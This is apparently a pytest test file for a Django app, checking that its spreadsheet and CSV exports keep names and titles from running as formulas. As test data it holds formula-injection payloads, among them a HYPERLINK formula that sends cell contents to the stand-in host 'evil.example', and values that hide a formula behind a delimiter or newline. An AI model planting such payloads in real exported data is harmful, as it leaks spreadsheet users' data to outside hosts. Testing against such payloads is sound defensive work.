"""One formula guard for every exported cell (core/spreadsheets.py): names and titles that
a spreadsheet would run as formulas stay text in every column, joined lists (an
initiative's partners) included, in XLSX, in the pages' CSV and the API's CSV, and in both
readings of a CSV file: with "," and with ";" (Danish and Swedish spreadsheet programs)."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from core.choices import Visibility
from core.spreadsheets import cell_value, formula_safe
from initiatives.choices import ParticipationRole

from . import factories

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
PAYLOADS = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1)", "x;=1+3;y", "a,=1+3", "Linje\n=1+3", "Navn\r\n@SUM(1)"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_live_formula(cell):
    """Would a spreadsheet program run this cell (as csv.reader or openpyxl hands it over)?"""
    text = str(cell).lstrip(" ")
    return text.startswith(FORMULA_STARTS) and not _number(text)


def _number(text):
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


def readings(content):
    text = content.decode("utf-8").removeprefix("\ufeff")
    return {delimiter: list(csv.reader(io.StringIO(text), delimiter=delimiter)) for delimiter in (",", ";")}


@pytest.fixture
def hostile_initiatives(network):
    """Every exported column of the initiative list carries a payload: the title, the
    partners (a joined list), the network's name."""
    network.name = '=HYPERLINK("http://evil.example")'
    network.save()
    made = []
    for number, payload in enumerate(PAYLOADS):
        initiative = factories.InitiativeFactory(network=network, visibility=Visibility.PUBLIC, title=payload)
        for name in (f"{payload} {number}", HYPERLINK + str(number)):
            organisation = factories.OrganisationFactory(name=name)
            factories.ParticipationFactory(
                initiative=initiative, organisation=organisation, role=ParticipationRole.PARTNER
            )
        made.append(initiative)
    return made


def test_the_guard_covers_list_cells_and_leaves_numbers_and_plain_text():
    assert cell_value(["=HYPERLINK(1)", "Aarhus"]) == "'=HYPERLINK(1), Aarhus"
    assert cell_value(("Aarhus", "=HYPERLINK(1)")) == "Aarhus, =HYPERLINK(1)"  # one cell: only its start runs
    assert cell_value("=1+2") == "'=1+2"
    assert cell_value(-5) == -5
    assert cell_value("-5") == "-5"
    assert cell_value("Åbne Døre") == "Åbne Døre"
    assert formula_safe("x;=1+3;y", csv_text=True) == "x;'=1+3;y"
    assert formula_safe("100,- kr.", csv_text=True) == "100,- kr."


def test_page_csv_export_has_no_formula_in_either_reading(client, hostile_initiatives):
    response = client.get(reverse("initiatives:initiative_list"), {"export": "csv"})
    assert response.status_code == 200
    for delimiter, rows in readings(response.content).items():
        assert len(rows) > len(PAYLOADS)
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if is_live_formula(cell)], delimiter
    comma_rows = readings(response.content)[","]
    header, body = comma_rows[0], comma_rows[1:]
    assert len(body) == len(PAYLOADS)

    # Nothing is lost: each payload is there, behind its apostrophe.
    def plain(text):
        return text.replace("'", "").replace("\r\n", "\n")

    assert {plain(payload) for payload in PAYLOADS} == {plain(row[0]) for row in body}
    partners = [row[header.index("Partnere") if "Partnere" in header else 3] for row in body]
    assert all(cell.startswith("'") or "HYPERLINK" in cell for cell in partners)


def test_page_xlsx_export_has_no_formula_cell(client, hostile_initiatives):
    response = client.get(reverse("initiatives:initiative_list"), {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert len(cells) > 8 * len(PAYLOADS)
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if cell.value is not None and is_live_formula(cell.value)]
    values = [cell.value for cell in cells]
    assert any(str(value).startswith("'" + HYPERLINK) for value in values)  # a partner, in a joined list


def test_api_csv_has_no_formula_in_either_reading(client, hostile_initiatives):
    response = client.get("/api/v1/initiatives/", {"format": "csv", "limit": 100})
    assert response.status_code == 200
    for delimiter, rows in readings(response.content).items():
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if is_live_formula(cell)], delimiter
